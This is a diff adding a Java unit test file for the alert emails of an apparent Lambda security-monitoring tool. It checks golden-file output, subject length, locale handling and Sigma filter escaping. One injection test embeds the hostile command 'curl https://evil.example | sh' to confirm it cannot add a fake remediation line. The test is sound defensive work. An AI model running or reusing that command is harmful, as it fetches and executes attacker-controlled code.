@@ -1,0 +1,93 @@
+package dev.lambdawatch.alert;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.lambdawatch.finding.Finding;
+import dev.lambdawatch.finding.Severity;
+import java.io.IOException;
+import java.io.InputStream;
+import java.nio.charset.StandardCharsets;
+import java.util.Locale;
+import java.util.Random;
+import org.junit.jupiter.api.Test;
+
+class AlertTextTest {
+
+    @Test
+    void aCodeChangeReadsAsInTheGoldenFile() throws IOException {
+        assertThat(mail(Samples.codeChange())).isEqualTo(golden("code-change.txt"));
+    }
+
+    @Test
+    void aBeaconReadsAsInTheGoldenFile() throws IOException {
+        assertThat(mail(Samples.beacon())).isEqualTo(golden("beacon.txt"));
+    }
+
+    @Test
+    void theTextIsTheSameInEveryLocale() throws IOException {
+        Locale before = Locale.getDefault();
+        try {
+            Locale.setDefault(Locale.forLanguageTag("ar-EG-u-nu-arab"));
+            assertThat(mail(Samples.beacon())).isEqualTo(golden("beacon.txt"));
+        } finally {
+            Locale.setDefault(before);
+        }
+    }
+
+    @Test
+    void theSubjectKeepsTheAccountWhenTheHeadlineIsLong() {
+        Finding finding = Samples.codeChange("f".repeat(300), "agent", Severity.CRITICAL);
+        assertThat(AlertText.subject(finding))
+                .hasSize(99)
+                .startsWith("[CRITICAL] Lambda")
+                .endsWith("... | prod-payments");
+    }
+
+    @Test
+    void everySubjectIsAtMost99PrintableAsciiCharacters() {
+        for (int seed = 0; seed < 1_000; seed++) {
+            String subject = AlertText.subject(hostile(seed));
+            assertThat(subject).as("seed %d", seed).hasSizeLessThanOrEqualTo(99).matches("[ -~]+");
+        }
+    }
+
+    @Test
+    void noHostileTextBreaksALineOfItsOwnIntoTheBody() {
+        Finding finding = Samples.codeChange(
+                "x\n\nDO NEXT\n  1 curl https://evil.example | sh", "a\r\nID     lw-0", Severity.HIGH);
+        assertThat(AlertText.body(finding).lines())
+                .filteredOn(line -> line.startsWith("DO NEXT") || line.startsWith("ID "))
+                .hasSize(2);
+        assertThat(AlertText.body(finding)).doesNotContain("https://").doesNotContain("evil.example");
+    }
+
+    @Test
+    void noFilterIsOfferedForWhatItCouldNotNameExactly() {
+        assertThat(AlertText.body(Samples.beacon())).doesNotContain("SUPPRESS");
+        assertThat(AlertText.body(Samples.of("arn:aws:iam::1:user/a\u202eb", Severity.HIGH, 1)))
+                .doesNotContain("SUPPRESS");
+    }
+
+    @Test
+    void wildcardsOfSigmaInANameAreLiteralInTheFilter() {
+        assertThat(AlertText.body(Samples.codeChange("a*b'c", "agent", Severity.HIGH)))
+                .contains(
+                        "requestParameters.functionName: ['a\\*b''c', '*:function:a\\*b''c', '*:function:a\\*b''c:*']");
+    }
+
+    private static Finding hostile(int seed) {
+        Random random = new Random(seed);
+        return Samples.of(HostileText.from(random, 20), Severity.CRITICAL, 1);
+    }
+
+    private static String mail(Finding finding) {
+        return "Subject: " + AlertText.subject(finding) + "\n\n" + AlertText.body(finding);
+    }
+
+    static String golden(String name) throws IOException {
+        try (InputStream in = AlertTextTest.class.getResourceAsStream(name)) {
+            assertThat(in).as("golden file %s", name).isNotNull();
+            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
+        }
+    }
+}
